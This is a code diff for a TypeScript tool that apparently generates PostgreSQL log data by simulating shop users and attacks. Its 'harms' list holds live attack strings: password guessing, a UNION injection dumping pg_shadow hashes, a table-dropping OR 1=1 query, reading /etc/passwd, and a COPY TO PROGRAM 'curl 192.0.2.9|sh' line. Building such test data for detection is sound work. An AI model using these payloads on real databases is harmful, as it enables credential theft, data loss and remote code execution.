@@ -8,8 +8,9 @@ import { appendFileSync, chmodSync, chownSync, readdirSync, writeFileSync } from
 import { join } from "node:path";
 import { answering, freePort, Log, type Program, ran } from "./recorder.ts";
 
-/** Lines of any session. */
-const USUAL = /connection (?:received|authenticated|authorized)|disconnection: |LOG: {2}duration: |^\s/;
+/** Lines of any session, and of what the server does by itself. */
+const USUAL =
+  /connection (?:received|authenticated|authorized)|disconnection: |LOG: {2}duration: | LOG: {2}(?:automatic|checkpoint)|^\s/;
 const BINARIES = "/usr/lib/postgresql";
 const GOODS = ["lamp", "chair", "kettle", "basket", "mirror", "clock"];
 const NAMES = ["anna", "bela", "cleo", "dora", "emil", "fritz", "gita", "hugo"];
@@ -25,10 +26,14 @@ export async function recordPostgres(folder: string, random: () => number, lines
   chownSync(folder, owner.uid, owner.gid);
   const data = join(folder, "data");
   writeFileSync(join(folder, "word"), "deep\n", { mode: 0o644 });
-  execFileSync(join(binaries, "initdb"), ["-D", data, "-U", "owner", "-A", "scram-sha-256", `--pwfile=${join(folder, "word")}`], {
-    ...owner,
-    stdio: "ignore",
-  });
+  execFileSync(
+    join(binaries, "initdb"),
+    ["-D", data, "-U", "owner", "-A", "scram-sha-256", `--pwfile=${join(folder, "word")}`],
+    {
+      ...owner,
+      stdio: "ignore",
+    },
+  );
   const port = await freePort();
   appendFileSync(
     join(data, "postgresql.conf"),
@@ -44,10 +49,19 @@ shared_buffers = 16MB\nfsync = off\nlog_timezone = 'UTC'\n`,
   };
   const sql = (user: string, word: string, database: string, text: string) => {
     const env = { ...process.env, PGPASSWORD: word, PGCONNECT_TIMEOUT: "5" };
-    return ran({ path: join(binaries, "psql"), env }, ["-X", "-q", "-h", "127.0.0.1", "-p", String(port), "-U", user, "-d", database], text);
+    return ran(
+      { path: join(binaries, "psql"), env },
+      ["-X", "-q", "-h", "127.0.0.1", "-p", String(port), "-U", user, "-d", database],
+      text,
+    );
   };
   await start();
-  await sql("owner", "deep", "postgres", "CREATE DATABASE shop; CREATE USER clerk PASSWORD 'blue'; CREATE USER report PASSWORD 'green';");
+  await sql(
+    "owner",
+    "deep",
+    "postgres",
+    "CREATE DATABASE shop; CREATE USER clerk PASSWORD 'blue'; CREATE USER report PASSWORD 'green';",
+  );
   await sql(
     "owner",
     "deep",
@@ -60,8 +74,10 @@ GRANT ALL ON ALL TABLES IN SCHEMA public TO clerk; GRANT ALL ON ALL SEQUENCES IN
   const clerk = () => {
     const texts = Array.from({ length: 2 + draw(5) }, () => {
       const kind = random();
-      if (kind < 0.15) return `INSERT INTO customers (name, mail) VALUES ('${one(NAMES)}${draw(500)}', '${one(NAMES)}@mail.example');`; // some names are taken
-      if (kind < 0.45) return `INSERT INTO orders (customer, item, pieces) VALUES (${1 + draw(20)}, '${one(GOODS)}', ${1 + draw(9)});`;
+      if (kind < 0.15)
+        return `INSERT INTO customers (name, mail) VALUES ('${one(NAMES)}${draw(500)}', '${one(NAMES)}@mail.example');`; // some names are taken
+      if (kind < 0.45)
+        return `INSERT INTO orders (customer, item, pieces) VALUES (${1 + draw(20)}, '${one(GOODS)}', ${1 + draw(9)});`;
       if (kind < 0.7) return `SELECT name, mail FROM customers WHERE id = ${1 + draw(60)};`;
       if (kind < 0.8) return `BEGIN; UPDATE orders SET pieces = pieces + 1 WHERE id = ${1 + draw(300)}; COMMIT;`;
       if (stock && kind < 0.9) return `UPDATE stock SET pieces = pieces - 1 WHERE item = '${one(GOODS)}';`;
@@ -69,16 +85,51 @@ GRANT ALL ON ALL TABLES IN SCHEMA public TO clerk; GRANT ALL ON ALL SEQUENCES IN
     });
     return sql("clerk", "blue", "shop", texts.join("\n"));
   };
-  const report = () => sql("report", "green", "shop", "SELECT date_trunc('day', at) AS day, count(*) FROM orders GROUP BY day ORDER BY day;");
+  const report = () =>
+    sql(
+      "report",
+      "green",
+      "shop",
+      "SELECT date_trunc('day', at) AS day, count(*) FROM orders GROUP BY day ORDER BY day;",
+    );
   const nightly = () => sql("owner", "deep", "shop", "VACUUM ANALYZE orders; REINDEX TABLE customers; CHECKPOINT;");
   const harms = [
     async () => {
-      for (let left = 2 + draw(6); left > 0; --left) await sql(one(["postgres", "admin", "owner", "root"]), String(draw(1e6)), one(["postgres", "shop"]), "");
+      for (let left = 2 + draw(6); left > 0; --left)
+        await sql(one(["postgres", "admin", "owner", "root"]), String(draw(1e6)), one(["postgres", "shop"]), "");
     },
-    () => sql("clerk", "blue", "shop", `SELECT name, mail FROM customers WHERE id = ${draw(60)} UNION SELECT usename, passwd FROM pg_shadow;`),
-    () => sql("clerk", "blue", "shop", `SELECT name, mail FROM customers WHERE name = '' OR 1=1; DROP TABLE customers; --';`),
-    () => sql("clerk", "blue", "shop", one(["SELECT pg_read_file('/etc/passwd');", "COPY (SELECT '') TO PROGRAM 'curl 192.0.2.9|sh';", "SELECT pg_sleep(0.2) FROM pg_user;"])),
-    () => sql("report", "green", "shop", "SELECT table_name FROM information_schema.tables; SELECT * FROM customers; SELECT version();"),
+    () =>
+      sql(
+        "clerk",
+        "blue",
+        "shop",
+        `SELECT name, mail FROM customers WHERE id = ${draw(60)} UNION SELECT usename, passwd FROM pg_shadow;`,
+      ),
+    () =>
+      sql(
+        "clerk",
+        "blue",
+        "shop",
+        `SELECT name, mail FROM customers WHERE name = '' OR 1=1; DROP TABLE customers; --';`,
+      ),
+    () =>
+      sql(
+        "clerk",
+        "blue",
+        "shop",
+        one([
+          "SELECT pg_read_file('/etc/passwd');",
+          "COPY (SELECT '') TO PROGRAM 'curl 192.0.2.9|sh';",
+          "SELECT pg_sleep(0.2) FROM pg_user;",
+        ]),
+      ),
+    () =>
+      sql(
+        "report",
+        "green",
+        "shop",
+        "SELECT table_name FROM information_schema.tables; SELECT * FROM customers; SELECT version();",
+      ),
   ];
   let [restarted, next] = [false, lines * 0.22];
   for (let count = 0; count < lines; count = log.lines) {
